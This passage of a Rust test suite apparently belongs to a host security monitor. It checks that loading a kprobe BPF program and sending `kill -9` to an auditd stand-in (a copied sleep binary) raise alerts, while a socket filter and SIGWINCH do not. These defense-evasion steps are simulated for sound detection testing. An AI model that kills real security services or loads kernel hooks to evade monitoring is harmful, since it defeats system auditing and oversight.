                struct.pack_into('<IIQQIIQII16s', attr, 0, int(sys.argv[1]), 2, ctypes.addressof(insns), ctypes.addressof(lic), 0, 0, 0, 0, 0, sys.argv[2].encode())\n\
                fd = libc.syscall(321, 5, attr, 128)\n\
                assert fd >= 0, os.strerror(ctypes.get_errno())\n\
                print(os.getpid())"])
            .args([prog_type.to_string(), name.to_string()])
            .output()
            .expect("python3");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).expect("pid").trim().to_owned()
    };
    let kprobe = load(2, "vigil_test_kp");
    let filter = load(1, "vigil_test_sf");
    wait_for_alerts(&daemon, alerts_before + 1);
    drop(daemon);
    let found = entries(&cursor, "the bpf-hook-load alert", |e| {
        f(e, "VIGIL_REASON") == "bpf-hook-load" && f(e, "VIGIL_PID") == kprobe
    });
    if let Some(a) = found.first() {
        let detail = f(a, "VIGIL_DETAIL");
        assert!(detail.starts_with("BPF_PROG_LOAD of `vigil_test_kp`, type 2, 2 instructions (result ") && detail.ends_with(": a kprobe program"), "{detail}");
    }
    if let Some(c) = &cursor {
        let quiet = incidents_on(c, "bpf-hook-load", &[&filter]);
        assert!(quiet.is_empty(), "{quiet:?}");
    }
}

/// `kill -9 $(pidof auditd)` names no service on its command line: the signal itself is
/// reported. Two stand-in services (`sleep` copied as `auditd`), one running before vigil
/// started and one started after, are each killed by a shell's `kill -9` and alerted on that
/// shell; a SIGWINCH sent first, which neither stops nor ends a service, is not.
#[test]
fn a_security_service_killed_by_pid_is_alerted_and_other_signals_are_not() {
    let test = "a_security_service_killed_by_pid_is_alerted_and_other_signals_are_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("service-signalled");
    let service = dir.join("auditd");
    fs::copy("/usr/bin/sleep", &service).expect("stand-in service");
    let start = || Reap(Command::new(&service).arg("60").spawn().expect("stand-in"));
    let before = start();
    let daemon = Daemon::start("service-signalled", &[]);
    let after = start();
    std::thread::sleep(Duration::from_millis(300));
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let mut senders = Vec::new();
    for target in [before.0.id(), after.0.id()] {
        let out = Command::new("/bin/sh")
            .args(["-c", &format!("kill -WINCH {target}; sleep 0.2; kill -9 {target}; echo $$")])
            .output()
            .expect("sh");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        senders.push((String::from_utf8(out.stdout).expect("pid").trim().to_owned(), target));
    }
    wait_for_alerts(&daemon, alerts_before + 2);
    drop(daemon);
    for (sender, target) in &senders {
        let found = entries(&cursor, &format!("the security-service-signalled alert of {sender}"), |e| {
            f(e, "VIGIL_REASON") == "security-service-signalled" && f(e, "VIGIL_PID") == *sender
        });
        if let Some(a) = found.first() {
            assert_eq!(
                f(a, "VIGIL_DETAIL"),
                format!("SIGKILL sent to the security service {} (pid {target})", service.display()),
                "{a}"
            );
            assert_eq!(found.len(), 1, "SIGWINCH is not reported: {found:?}");
        }
    }
}
